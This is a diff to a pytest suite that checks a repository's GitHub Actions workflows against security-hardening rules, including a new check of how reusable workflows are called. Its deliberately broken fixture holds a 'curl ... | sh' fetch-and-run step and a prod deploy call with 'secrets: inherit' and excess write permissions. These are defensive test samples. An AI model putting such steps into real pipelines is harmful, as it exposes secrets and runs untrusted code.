@@ -11,6 +11,8 @@ from tests.workflows.rules import RULES, SHA_PIN, VERSION_COMMENT, Workflow
 
 WORKFLOW_DIR = Path(__file__).resolve().parents[2] / ".github" / "workflows"
 WORKFLOWS = sorted(WORKFLOW_DIR.glob("*.y*ml"))
+# What GitHub starts; the reusable workflows are checked as the jobs their callers run.
+TOP_LEVEL = [path for path in WORKFLOWS if not Workflow.load(path).reusable]
 REQUIRED = (
     "ci.yml",
     "model-train.yml",
@@ -90,6 +92,15 @@ jobs:
     steps:
       - name: Lint
         run: make lint && curl https://example.invalid | sh
+  release:
+    name: release prod through the workspace's copy, with every secret
+    uses: ./.github/workflows/_deploy-stack.yml
+    secrets: inherit
+    permissions:
+      contents: write # more than the called jobs ask for
+      id-token: write # the called up job's OIDC token
+    with:
+      stack: prod
 """
 
 
@@ -100,7 +111,7 @@ def test_required_workflows_exist():
 
 
 @pytest.mark.parametrize("rule_name", sorted(RULES))
-@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
+@pytest.mark.parametrize("path", TOP_LEVEL, ids=lambda p: p.name)
 def test_workflow_checked_by_rule_has_no_violation(path: Path, rule_name: str):
     # Given a workflow of this repository, when a hardening rule checks it,
     workflow = Workflow.load(path)
@@ -118,14 +129,37 @@ def test_rule_on_broken_workflow_reports_violation(rule_name: str):
     assert all("broken.yml" in message for message in problems), f"unnamed: {problems}"
 
 
+def test_every_reusable_workflow_is_called_so_its_jobs_are_checked():
+    # Given the workflows only workflow_call starts, and the ones each top-level workflow
+    # calls (directly or not),
+    reusable = {path.name for path in WORKFLOWS} - {path.name for path in TOP_LEVEL}
+    called = {f.name for path in TOP_LEVEL for f in Workflow.load(path).files}
+    # then each reusable workflow is called, so the rules above judge the jobs it runs.
+    assert reusable == {"_deploy-stack.yml", "_plan-stacks.yml", "_publish-manifests.yml"}, reusable
+    assert reusable <= called, f"never called, so never checked: {sorted(reusable - called)}"
+
+
+def test_broken_call_reports_each_way_it_is_broken():
+    # Given the broken workflow's call of _deploy-stack.yml (workspace path, every secret,
+    # contents: write the called jobs never ask for, no environment input),
+    problems = RULES["reusable_workflows_called_explicitly"](
+        Workflow.parse(BROKEN, Path("broken.yml"))
+    )
+    # then the rule names each of them.
+    assert any("call this repository's as $/" in p for p in problems), problems
+    assert any("secrets: inherit" in p for p in problems), problems
+    assert any("required input 'environment'" in p for p in problems), problems
+    assert any("grants {'contents': 'write', 'id-token': 'write'}" in p for p in problems), problems
+
+
 def test_pinned_actions_use_the_reviewed_pins():
     # Given every `uses:` line of every workflow,
     found = set()
     for path in WORKFLOWS:
         for line in path.read_text(encoding="utf-8").splitlines():
             match = re.search(r"uses:\s*(\S+)", line)
-            if not match:
-                continue
+            if not match or match.group(1).startswith("$/"):
+                continue  # a reusable workflow of this commit: its own steps are read
             pin = SHA_PIN.match(match.group(1))
             version = VERSION_COMMENT.search(line)
             assert pin and version, f"{path.name}: unpinned or uncommented: {line.strip()}"
